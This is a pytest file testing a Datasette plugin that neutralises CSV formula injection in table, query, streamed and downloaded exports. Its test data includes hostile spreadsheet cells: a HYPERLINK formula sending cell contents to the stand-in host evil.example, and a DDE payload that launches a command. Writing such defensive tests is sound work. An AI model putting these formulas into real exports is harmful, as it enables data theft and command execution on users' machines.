"""CSV as Datasette writes it: tables, streams, queries; what a spreadsheet would run is text."""

import asyncio
import csv
import io
import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import httpx
import pytest
from datasette.app import Datasette
from datasette.utils import module_from_path

from daily_papers.site.views.text_tables import defused
from tests.conftest import ROOT, Get, client, run_in_thread

CELLS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    " =1",
    "\t1",
    "\r\n=1",
    "＝1",
    "a\n=1",
    'b"\r\n"=1',
    "plain, with a comma",
    "'=1",
    "é漢🤗",
    "-0.5",
    "",
    None,
    -0.5,
    3,
    -1e-05,
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Get:
    """Ask a Datasette that serves cells which a spreadsheet would run: hostile(path, …)."""
    path = tmp_path_factory.mktemp("csv") / "hostile.db"
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("create table cells (id integer primary key, cell)")
        connection.executemany(
            "insert into cells (cell) values (?)", [(cell,) for cell in CELLS * 60]
        )
    queries = {"all": {"sql": "select * from cells where id <= :most"}}
    datasette = Datasette(
        [str(path)],
        plugins_dir=str(ROOT / "plugins"),
        metadata={"databases": {"hostile": {"queries": queries}}},
        settings={"max_returned_rows": 500},
    )

    return client(datasette)


def read(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode(), newline="")))


def expected(first: int, last: int) -> list[list[str]]:
    cells = (CELLS * 60)[first - 1 : last]
    texts = [defused(cell) if isinstance(cell, str) else str(cell or "") for cell in cells]
    return [[str(number), text] for number, text in enumerate(texts, first)]


def test_a_table_is_defused(hostile: Get) -> None:
    assert read(hostile("/hostile/cells.csv")) == [["id", "cell"], *expected(1, 100)]


def test_a_streamed_table_is_defused(hostile: Get) -> None:
    answer = hostile("/hostile/cells.csv", _stream="on")
    assert read(answer) == [["id", "cell"], *expected(1, len(CELLS) * 60)]


def test_queries_are_defused(hostile: Get) -> None:
    assert read(hostile("/hostile/all.csv", most="20")) == [["id", "cell"], *expected(1, 20)]
    answer = hostile("/hostile.csv", sql="select * from cells limit 20")
    assert read(answer) == [["id", "cell"], *expected(1, 20)]


def test_a_column_is_defused(hostile: Get) -> None:
    assert read(hostile("/hostile.csv", sql='select 1 as "=1+1"')) == [["'=1+1"], ["1"]]


def test_a_download_is_defused(hostile: Get) -> None:
    answer = hostile("/hostile/cells.csv", _dl="1", _size="20")
    assert answer.headers["content-type"].startswith("text/csv")
    assert read(answer)[1:] == expected(1, 20)


def test_nothing_but_cells_that_start_formulas_changes(hostile: Get) -> None:
    sql = "select * from cells where (id - 1) % 20 >= 11 and id <= 1000"
    answer = hostile("/hostile.csv", sql=sql, _size="max")
    out = io.StringIO(newline="")
    rows = hostile("/hostile.json", sql=sql, _shape="arrays", _size="max").json()["rows"]
    csv.writer(out).writerows([["id", "cell"], *rows])
    assert len(rows) > 100
    assert answer.content == out.getvalue().encode()


def test_json_has_the_values_as_they_are(hostile: Get) -> None:
    rows = hostile("/hostile/cells.json", _shape="arrays", _size="20").json()["rows"]
    assert [cell for _, cell in rows] == CELLS


def test_what_is_no_csv_is_left_alone(hostile: Get) -> None:
    assert hostile("/hostile/missing.csv").status_code == 404
    rows = hostile("/hostile/cells.json", _size="1", _shape="array").json()
    assert rows == [{"id": 1, "cell": "=1+1"}]


def test_the_papers_are_what_the_database_says(get: Get, database: Path) -> None:
    connection = sqlite3.connect(database)
    cursor = connection.execute("select * from papers order by id")
    columns = [column[0] for column in cursor.description]
    rows = cursor.fetchall()
    connection.close()
    header, *read_rows = read(get("/papers/papers.csv", _stream="on"))
    assert header == columns
    texts = [["" if cell is None else defused(str(cell)) for cell in row] for row in rows]
    assert sorted(read_rows) == sorted(texts)


@pytest.fixture(scope="module")
def defusing() -> Any:
    return module_from_path(str(ROOT / "plugins" / "safe_csv.py"), "safe_csv").defusing


def through(defusing: Any, path: str, start: dict[str, Any], *bodies: bytes) -> list[Any]:
    """Send an answer through the plugin; return what comes out."""
    sent: list[Any] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", **start})
        for body in bodies:
            await send({"type": "http.response.body", "body": body, "more_body": True})
        await send({"type": "http.response.body"})

    async def send(message: Any) -> None:
        sent.append(message)

    run_in_thread(asyncio.run, defusing(app)({"type": "http", "path": path}, None, send))
    return sent


CSV = {"status": 200, "headers": [(b"Content-Type", b"text/csv; charset=utf-8")]}


def test_records_are_sent_on_as_they_end(defusing: Any) -> None:
    pieces = ("a\r\n=é,".encode()[:-2], "é,".encode()[1:], b"1\r", b"\n=last")
    _, *sent = through(defusing, "/x.csv", CSV, *pieces)
    assert [message["body"] for message in sent] == [
        b"a\r\n",
        b"",
        b"",
        "'=é,1\r\n".encode(),
        b"'=last",
    ]
    assert [message.get("more_body", False) for message in sent] == [True] * 4 + [False]


def test_a_length_that_may_be_wrong_is_not_sent(defusing: Any) -> None:
    start = {"status": 200, "headers": [*CSV["headers"], (b"Content-Length", b"2")]}
    headers = through(defusing, "/x.csv", start, b"=1")[0]["headers"]
    assert headers == [(b"content-type", b"text/csv; charset=utf-8")]


@pytest.mark.parametrize(
    ("path", "status", "kind"),
    [
        ("/x.csv", 404, b"text/plain"),
        ("/x.csv", 200, b"text/html; charset=utf-8"),
        ("/x.csv", 200, b"application/json"),
        ("/x.txt", 200, b"text/plain"),
    ],
)
def test_other_answers_pass_as_they_are(defusing: Any, path: str, status: int, kind: bytes) -> None:
    start = {"status": status, "headers": [(b"content-type", kind), (b"content-length", b"2")]}
    first, body, _ = through(defusing, path, start, b"=1")
    assert first == {"type": "http.response.start", **start}
    assert body["body"] == b"=1"


def test_the_plugin_is_loaded(hostile: Get) -> None:
    names = [plugin["name"] for plugin in json.loads(hostile("/-/plugins.json").text)]
    assert "safe_csv.py" in names
